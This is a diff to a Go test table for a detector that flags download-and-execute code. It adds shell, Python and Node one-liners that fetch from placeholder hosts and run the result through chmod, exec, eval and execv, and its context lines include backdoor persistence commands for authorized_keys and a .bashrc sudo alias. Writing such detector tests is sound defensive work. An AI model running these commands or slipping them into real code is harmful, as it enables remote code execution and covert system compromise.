@@ -36,6 +36,25 @@ func TestFlows(t *testing.T) {
 		{"a.md", "```\nwget http://203.0.113.1/a -O /tmp/a\nchmod +x /tmp/a\n```", Pipe},
 		{"a.md", "Ask `http://<host>/docs`; then run `docs`.", none},
 
+		// fetched from any address, and run unseen
+		{"a.sh", "wget -qO /tmp/u https://x.example/u; chmod 755 /tmp/u; /tmp/u &", Pipe},
+		{"a.sh", "curl -so /var/tmp/d/u https://x.example/u\nnohup /var/tmp/d/u &", Pipe},
+		{"a.sh", "curl -so /tmp/u https://x.example/u\ngrep x /tmp/u; ls -l /tmp/u", none},
+		{"a.sh", "python3 -c \"import urllib.request as u;exec(u.urlopen('https://x.example').read())\"", Pipe},
+		{"a.sh", "node -e 'fetch(\"https://x.example\").then(r=>r.text()).then(t=>eval(t))'", Pipe},
+		{"a.sh", "python3 -c \"import urllib.request as u;print(u.urlopen('https://x.example').read())\"", none},
+		{"a.js", "fetch(u).then(r=>r.text()).then(t=>eval(t))", Pipe},
+		{"a.js", "fetch(u).then(r => r.text()).then(function (t) { eval(t) })", Pipe},
+		{"a.js", "fetch(u).then(r=>r.text()).then(t=>show(t))", none},
+		{"a.js", "https.get(u,r=>{let b='';r.on('data',d=>b+=d);r.on('end',()=>vm.runInThisContext(b))})", Pipe},
+		{"a.js", "https.get(u, (r) => {\n  r.on('data', (d) => { b.push(d) })\n  r.on('end', () => new Function(b)())", Pipe},
+		{"a.js", "https.get(u, (r) => {\n  r.on('data', (d) => { b += d })\n  r.on('end', () => JSON.parse(b))", none},
+		{"a.py", "urllib.request.urlretrieve('https://x.example/a', '/tmp/a')\nos.chmod('/tmp/a', 0o755)\n" +
+			"os.execv('/tmp/a', ['a'])", Pipe},
+		{"a.py", "r = requests.get('https://x.example/a')\nopen('a.py', 'w').write(r.text)\nsubprocess.run(['python3', 'a.py'])", Pipe},
+		{"a.py", "urllib.request.urlretrieve('https://x.example/a', 'bin/a')\nos.chmod('bin/a', 0o755)", none},
+		{"a.py", "urllib.request.urlretrieve('https://x.example/a', 'a.csv')\nsubprocess.run(['python3', 'plot.py', 'a.csv'])", none},
+
 		// started by others
 		{"a.sh", "echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys", Unasked},
 		{"a.sh", "echo 'alias sudo=/tmp/s' >> ~/.bashrc", Unasked},
